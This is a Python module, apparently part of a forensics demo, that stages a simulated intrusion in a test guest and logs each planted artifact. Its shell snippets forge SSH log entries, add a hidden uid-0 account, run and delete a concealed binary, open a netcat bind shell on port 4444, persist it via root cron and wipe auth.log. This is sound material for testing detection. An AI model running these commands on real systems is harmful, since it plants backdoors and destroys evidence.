"""A scripted intrusion in named steps, each writing into the truth log what it did and when.

The steps are what an investigator looks for: a break-in in the log, a second root, a program that runs from a deleted
file, a listening backdoor, persistence, a wiped log. Refuses to reach anything outside the demo guest.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from typing import Protocol

from workbench.demo.supervisor import RunResult
from workbench.errors import GuestError

__all__ = ["STEPS", "Commanded", "Step", "play"]


class Commanded(Protocol):
    """Whatever runs shell commands in a guest: a `DemoGuest` or a `Supervisor`."""

    def run(self, cmd: str, timeout: float = 30) -> RunResult:
        """Run one."""
        ...


@dataclass(frozen=True, slots=True)
class Step:
    """One act of the intruder.

    Attributes
    ----------
    name : str
        What the truth log calls it.
    summary : str
        The act in a few words.
    script : str
        The guest's shell script; it leaves the inside of a JSON object in `$details`.
    """

    name: str
    summary: str
    script: str


_ATTACKER = "203.0.113.66"  # RFC 5737: an address for documentation, nobody's

_BREAK_IN = rf"""
log() {{ echo "$(date '+%b %e %H:%M:%S') rewind-demo sshd[913]: $*" >>/var/log/auth.log; }}
log "Failed password for root from {_ATTACKER} port 60122 ssh2"
log "Failed password for root from {_ATTACKER} port 60122 ssh2"
log "Accepted password for root from {_ATTACKER} port 60122 ssh2"
log "pam_unix(sshd:session): session opened for user root(uid=0)"
details='"path": "/var/log/auth.log", "address": "{_ATTACKER}"'
"""

_NEW_USER = r"""
echo 'sysupd:x:0:0:system update:/root:/bin/sh' >>/etc/passwd
echo 'sysupd:*:20001:0:99999:7:::' >>/etc/shadow
details='"path": "/etc/passwd", "user": "sysupd"'
"""

_DROPPED_BINARY = r"""
program=/tmp/.hidden/busybox-update
mkdir -p /tmp/.hidden
cp /bin/busybox $program
sync
digest=$(sha256sum $program | cut -d ' ' -f 1)
setsid $program sleep 1000000 </dev/null >/dev/null 2>&1 &
pid=$!
until [ "$(readlink /proc/$pid/exe)" = $program ]; do usleep 50000; done
rm $program
details="\"path\": \"$program\", \"pid\": $pid, \"sha256\": \"$digest\", \"deleted\": true"
"""

_BACKDOOR = r"""
setsid nc -ll -p 4444 -e /bin/sh </dev/null >/dev/null 2>&1 &
pid=$!
until netstat -ltn | grep -q ':4444 '; do usleep 50000; done
details="\"pid\": $pid, \"port\": 4444"
"""

_PERSISTENCE = r"""
echo '*/5 * * * * /bin/nc -ll -p 4444 -e /bin/sh' >>/var/spool/cron/crontabs/root
echo root >/var/spool/cron/crontabs/cron.update
details='"path": "/var/spool/cron/crontabs/root"'
"""

_WIPED_LOG = r"""
size=$(wc -c </var/log/auth.log)
: >/var/log/auth.log
sync
details="\"path\": \"/var/log/auth.log\", \"bytes\": $size"
"""

STEPS: tuple[Step, ...] = (
    Step("break_in", "a password is guessed; the log shows it", _BREAK_IN),
    Step("new_user", "a second user with root's rights", _NEW_USER),
    Step("dropped_binary", "a hidden program that runs and deletes its file", _DROPPED_BINARY),
    Step("backdoor", "a shell that listens on TCP port 4444", _BACKDOOR),
    Step("persistence", "a cron line that brings the backdoor back", _PERSISTENCE),
    Step("wiped_log", "the log of the break-in is emptied", _WIPED_LOG),
)


def play(
    guest: Commanded,
    on_step: Callable[[Step, dict[str, object]], None] | None = None,
    steps: Sequence[Step] = STEPS,
) -> list[dict[str, object]]:
    """Play the intrusion.

    Parameters
    ----------
    guest : Commanded
        The guest to break into.
    on_step : callable, optional
        Called after each step with the step and its line of the truth log.
    steps : sequence of Step
        The acts, in order.

    Returns
    -------
    list of dict
        The truth log's lines of these acts.

    Raises
    ------
    GuestError
        A step failed in the guest; the ones before it happened.
    GuestGoneError, OutcomeUnknownError
        As for `Supervisor.run`.
    """
    truth = []
    for step in steps:
        planted = _act(guest, step)
        truth.append(planted)
        if on_step is not None:
            on_step(step, planted)
    return truth


def _act(guest: Commanded, step: Step) -> dict[str, object]:
    plant = f'/usr/lib/rewind/plant {step.name} "$details" && tail -n 1 /var/log/truth.jsonl'
    done = guest.run(f"{step.script}\n{plant}", 60)
    if done.rc:
        raise GuestError(f"the step {step.name} failed: {done.stdout.strip()}", rc=done.rc)
    planted: dict[str, object] = json.loads(done.stdout.splitlines()[-1])
    return planted
